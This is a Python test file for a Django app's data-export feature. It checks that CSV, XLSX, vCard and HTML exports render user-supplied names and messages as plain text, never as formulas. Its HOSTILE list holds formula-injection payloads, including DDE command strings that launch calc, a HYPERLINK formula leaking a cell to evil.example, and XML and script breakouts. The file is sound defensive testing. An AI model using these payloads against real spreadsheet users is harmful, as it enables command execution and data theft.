"""Whatever people write, no cell of a copy is a formula, and every form of it opens in a parser of its own."""

import csv
import io
import json
import tempfile
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
import vobject
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from tests.cast import House
from troth.contacts.models import Contact
from troth.contacts.naming import rename
from troth.inbox.models import Message
from troth.inbox.tests.arriving import said, told
from troth.privacy.rights.exports.cells import safe
from troth.privacy.rights.exports.workbook import Workbook
from troth.privacy.tests.rights.conftest import make_export, opened, rows_in
from troth.workspaces.scope import scope

pytestmark = pytest.mark.clause("X22")

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "http://evil.example/",
    "mailto:x@evil.example",
    "internal:'Sheet2'!A1",
    'a","=1+1","b',
    "a\r\n=1+1",
    "</t></is></c><c><f>1+1</f></c>",
    "<script>alert(1)</script>",
    "_x003D_1+1",
    "\x01\x02=1",
    "BEGIN:VCARD\r\nEND:VCARD",
    "{=1+1}",
    "+60123456789; =1+1",
]
RUNS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.mark.clause("B7.4")
@pytest.mark.django_db
def test_hostile_names_messages_and_fields_are_text_in_every_form(house: House) -> None:
    for number, text in enumerate(HOSTILE):
        told(house, said(house, text, id=f"wamid.{number}", name=text, phone=f"6012345{number:04}"))
    with scope(house.id):
        for number, contact in enumerate(Contact.objects.all()):
            rename(contact, HOSTILE[number])
        assert Message.objects.count() == len(HOSTILE)
    bundle = opened(house, make_export(house))
    for name in bundle.namelist():
        if name.endswith(".csv"):
            table = list(csv.reader(io.StringIO(bundle.read(name).decode("utf-8-sig"), newline="")))
            assert len({len(row) for row in table}) == 1, name
            assert [cell for row in table for cell in row if _runs(cell)] == [], name
    told_ = {row["value"] for row in rows_in(bundle, "identities")}
    people = list(csv.DictReader(io.StringIO(bundle.read("csv/identities.csv").decode("utf-8-sig"), newline="")))
    assert {row["value"] for row in people} == told_, "phone numbers go round as they are"
    book = zipfile.ZipFile(io.BytesIO(bundle.read("workbook.xlsx")))
    for name in book.namelist():
        tree = ElementTree.fromstring(book.read(name))
        assert not list(tree.iter(f"{MAIN}f")), name
        assert not list(tree.iter(f"{MAIN}hyperlink")), name
        assert {cell.get("t") for cell in tree.iter(f"{MAIN}c")} <= {"inlineStr"}, name
    assert not [name for name in book.namelist() if "hyperlink" in book.read(name).decode().lower() and "rels" in name]
    cards = list(vobject.readComponents(bundle.read("contacts.vcf").decode()))
    assert len(cards) == len(HOSTILE)
    pages = [bundle.read(name).decode() for name in bundle.namelist() if name.endswith(".html")]
    assert not [page for page in pages if "<script" in page or "<f>" in page]
    for name in bundle.namelist():
        if name.startswith("data/"):
            assert all(json.loads(line) for line in bundle.read(name).splitlines())


def _runs(cell: str) -> bool:
    return (
        cell.lstrip(" \u00a0\ufeff").startswith(RUNS)
        and not (cell[0] == "+" and cell[1:].isdigit())
        and not (cell[0] == "-" and cell[1:].replace(".", "").isdigit())
    )


@pytest.mark.clause("B7.4")
@given(st.text(max_size=40))
def test_no_text_becomes_a_cell_that_runs(text: str) -> None:
    cell = safe(text)
    assert not cell.startswith(RUNS) or (cell[0] == "+" and cell[1:].isdigit())
    assert cell.removeprefix("'").encode("utf-8", "replace") == text.encode("utf-8", "replace") or cell == text


@pytest.mark.parametrize("phone", ["+60123456789", "+5511987654321", "+14155552671", "+966501234567"])
def test_a_phone_number_stays_as_it_is(phone: str) -> None:
    assert safe(phone) == phone


@pytest.mark.parametrize("text", ["+1+1", "+60 12", "+abc", "+", "++60123456789", "+60123456789 =1"])
def test_what_only_begins_like_a_phone_number_does_not(text: str) -> None:
    assert safe(text).startswith("'")


@pytest.mark.clause("B7.4")
def test_our_workbook_holds_what_xlsxwriters_does() -> None:
    rows = [
        ["id", "name"],
        ["1", "Mei & <Ling>"],
        ["2", " spaces "],
        ["3", "=1+1"],
        ["4", "_x0041_ \x01"],
        ["5", "أحمد"],
    ]
    ours = io.BytesIO()
    book = Workbook(ours)
    book.sheet("people", rows[0], rows[1:])
    book.close()
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "theirs.xlsx"
        theirs = xlsxwriter.Workbook(str(path), {"constant_memory": True})
        sheet = theirs.add_worksheet("people")
        for number, row in enumerate(rows):
            for column, cell in enumerate(row):
                sheet.write_string(number, column, cell)
        theirs.close()
        assert _cells(ours.getvalue()) == _cells(path.read_bytes())


def _cells(data: bytes) -> list[tuple[str | None, str | None, str | None]]:
    book = zipfile.ZipFile(io.BytesIO(data))
    assert {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"} <= set(
        book.namelist()
    )
    tree = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    return [(cell.get("r"), cell.get("t"), cell.findtext(f"{MAIN}is/{MAIN}t")) for cell in tree.iter(f"{MAIN}c")]


def test_a_full_sheet_goes_on_in_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("troth.privacy.rights.exports.workbook.ROWS_MAX", 3)
    out = io.BytesIO()
    book = Workbook(out)
    book.sheet("x", ["n"], [[str(n)] for n in range(5)])
    book.close()
    held = zipfile.ZipFile(out)
    cells = [
        text.text
        for name in sorted(held.namelist())
        if "sheet" in name and "worksheets" in name
        for text in ElementTree.fromstring(held.read(name)).iter(f"{MAIN}t")
    ]
    assert cells == ["n", "0", "1", "n", "2", "3", "n", "4"]


@pytest.mark.django_db
def test_an_arabic_name_stands_in_the_cards_whole(house: House) -> None:
    told(house, said(house, "x", id="wamid.1", name="أحمد; الحربي,\nx"))
    with scope(house.id):
        contact = Contact.objects.get()
        contact.username = "ahmad;x"
        contact.save(update_fields=["username"])
    card = next(iter(vobject.readComponents(opened(house, make_export(house)).read("contacts.vcf").decode())))
    assert card.fn.value == "أحمد; الحربي, x"
    assert card.tel.value == "+60123456789"
    assert card.nickname.value == "ahmad;x"
